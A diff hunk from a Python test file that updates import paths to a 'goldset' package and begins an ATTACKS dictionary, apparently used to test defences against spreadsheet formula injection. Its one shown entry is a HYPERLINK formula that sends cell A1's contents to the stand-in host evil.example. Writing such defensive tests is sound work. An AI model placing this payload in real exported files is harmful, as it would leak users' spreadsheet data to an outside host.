@@ -12,10 +12,10 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from eval.readers import golden_from_records, run_from_frame
-from eval.report import build_report
-from labeler import live
-from labeler.launch import streamlit_command
+from goldset.eval.readers import golden_from_records, run_from_frame
+from goldset.eval.report import build_report
+from goldset.labeler import live
+from goldset.labeler.launch import streamlit_command
 
 ATTACKS = {
     "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
